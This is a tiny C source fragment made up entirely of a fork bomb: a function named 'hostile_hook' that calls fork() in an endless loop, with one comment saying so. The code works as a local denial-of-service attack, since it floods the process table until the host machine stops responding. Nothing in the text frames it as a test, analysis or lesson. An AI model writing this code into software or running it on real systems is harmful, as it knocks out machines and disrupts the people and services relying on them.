/* A fork bomb: every process starts more, for ever. */
#include <unistd.h>
int hostile_hook(void)
{
    for (;;) fork();
}
